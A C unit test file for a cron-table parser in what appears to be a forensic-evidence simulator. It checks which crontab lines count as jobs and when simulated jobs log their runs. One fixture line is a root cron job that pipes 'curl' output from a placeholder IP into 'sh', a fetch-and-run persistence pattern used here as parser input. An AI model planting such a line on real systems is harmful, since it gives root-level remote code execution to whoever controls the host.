/* SPDX-License-Identifier: MIT */
/* Cron's other jobs: which lines are jobs, when they run, and that nothing runs before its file was written. */
#include "sim/evidence/host_traces.h"

#include <CUnit/CUnit.h>
#include <string.h>

#define START 1761573600000 /* 2025-10-27T14:00:00Z, a Monday */
#define HOURS 3600000LL

static const struct {
    const char *line;
    bool with_user;
    const char *user, *command; /* command NULL: no job */
} lines[] = {
    {"*/20 * * * * root curl -s http://192.0.2.1/x | sh", true,  "root",   "curl -s http://192.0.2.1/x | sh"},
    {"  5 4 * * 7\tapache  /bin/true  x",                 true,  "apache", "/bin/true  x"                   },
    {"30 6 * * * cp a b",                                 false, NULL,     "cp a b"                         },
    {"0,15,30-45/5 0-6 1 1-12/2 * date",                  false, NULL,     "date"                           },
    {"@daily root rotate",                                true,  "root",   "rotate"                         },
    {"@reboot root x",                                    true,  NULL,     NULL                             },
    {"60 * * * * x",                                      false, NULL,     NULL                             },
    {"* 24 * * * x",                                      false, NULL,     NULL                             },
    {"* * 0 * * x",                                       false, NULL,     NULL                             },
    {"5-2 * * * * x",                                     false, NULL,     NULL                             },
    {"*/0 * * * * x",                                     false, NULL,     NULL                             },
    {"a * * * * x",                                       false, NULL,     NULL                             },
    {"* * * * *",                                         false, NULL,     NULL                             },
    {"* * * * * root",                                    true,  NULL,     NULL                             },
    {"* * *",                                             false, NULL,     NULL                             },
    {"99999999999999999999 * * * * x",                    false, NULL,     NULL                             },
};

static void lines_are_read(void)
{
    AUTO(arena_drop) struct arena arena = {0};
    for (size_t i = 0; i < COUNT(lines); i++) {
        struct cron_job job = {0};
        bool good = cron_line(&arena, lines[i].line, lines[i].with_user, &job);
        CU_ASSERT_EQUAL(good, lines[i].command != NULL);
        if (good)
            CU_ASSERT(text_same(job.user, lines[i].user) && text_same(job.command, lines[i].command));
        if (good != (lines[i].command != NULL))
            fprintf(stderr, "evidence_host_jobs: %s\n", lines[i].line);
    }
}

static void put(struct world *w, struct server *s, const char *path, const char *text, int64_t ms)
{
    for (const char *slash = strchr(path + 1, '/'); slash; slash = strchr(slash + 1, '/')) {
        const char *dir = arena_dupn(&w->arena, path, (size_t)(slash - path));
        if (!tree_find(&s->tree, dir))
            tree_mkdir(w, &s->tree, dir, 0755, 0, 0, 0);
    }
    tree_put(w, &s->tree, path, text, strlen(text), ms);
}

/* How many lines with `text` in them the jobs leave within two days. */
static size_t runs(const char *path, const char *table, int64_t written_ms, bool crond, const char *text)
{
    struct world w = {0};
    struct seed seed = seed_from_text("jobs");
    world_init(&w, &seed, "123456789012", "us-west-2", START);
    struct daemon daemon = {.unit = "crond", .running = crond};
    struct server server = {.name = "cafe", .hostname = "ip-10-0-0-5.x", .daemons = &daemon, .booted_ms = START - 100 * HOURS};
    tree_mkdir(&w, &server.tree, "/", 0755, 0, 0, 0);
    put(&w, &server, path, table, written_ms);
    struct evidence_task task = {.w = &w, .seed = seed, .until_ms = START + 48 * HOURS};
    size_t n = 0;
    AUTO(traces_drop) struct traces t = {.task = &task, .server = &server, .host = "ip-10-0-0-5", .begin_ms = START};
    traces_of_jobs(&t);
    for (size_t i = 0; i < t.n; i++) {
        const char *line = t.bytes.s + t.list[i].at;
        bool after = t.list[i].time_ms > written_ms && t.list[i].time_ms > START && t.list[i].to == TO_CRON;
        n += after && memmem(line, t.list[i].len, text, strlen(text));
    }
    CU_ASSERT_EQUAL(n, t.n);
    world_drop(&w);
    return n;
}

static void jobs_run_when_they_are_due(void)
{
    static const struct {
        const char *path, *table;
        int64_t written_ms; /* after the start */
        bool crond;
        const char *text;
        size_t n;
    } rows[] = {
        {"/etc/cron.d/x",       "*/20 * * * * root a b\n",                   -HOURS,       true,  "CROND[",           48 * 3 - 1},
        {"/etc/cron.d/x",       "*/20 * * * * root a b\n",                   24 * HOURS,   true,  "(root) CMD (a b)", 24 * 3 - 1},
        {"/etc/cron.d/x",       "*/20 * * * * root a b\n",                   -HOURS,       false, "",                 0         },
        {"/etc/cron.d/x",       "*/20 * * * * root a b\n",                   -200 * HOURS, true,  "",                 0         }, /* the image's */
        {"/etc/cron.d/x",       "# 1\nSHELL=/bin/sh\n\n30 6 * * * apache c", 0,            true,  "(apache) CMD (c)", 2         },
        {"/var/spool/cron/bob", "0 12 * * 3 d\n",                            0,            true,  "(bob) CMD (d)",    1         }, /* Wednesday */
        {"/var/spool/cron/bob", "0 0 28 * 5 d\n",                            0,            true,  "(bob) CMD (d)",    1         }, /* the 28th, or Fridays */
        {"/var/spool/cron/bob", "0 0 29 10 * d\n0 0 29 11 * d\n",            0,            true,  "(bob) CMD (d)",    1         },
        {"/etc/cron.daily/x",   "* * * * * root a\n",                        0,            true,  "",                 0         },
    };
    for (size_t i = 0; i < COUNT(rows); i++) {
        size_t n = runs(rows[i].path, rows[i].table, START + rows[i].written_ms, rows[i].crond, rows[i].text);
        CU_ASSERT_EQUAL(n, rows[i].n);
        if (n != rows[i].n)
            fprintf(stderr, "evidence_host_jobs: row %zu runs %zu times\n", i, n);
    }
}

CU_TestInfo evidence_host_jobs_tests[] = {
    {"lines of crontabs",          lines_are_read            },
    {"jobs run when they are due", jobs_run_when_they_are_due},
    CU_TEST_INFO_NULL,
};
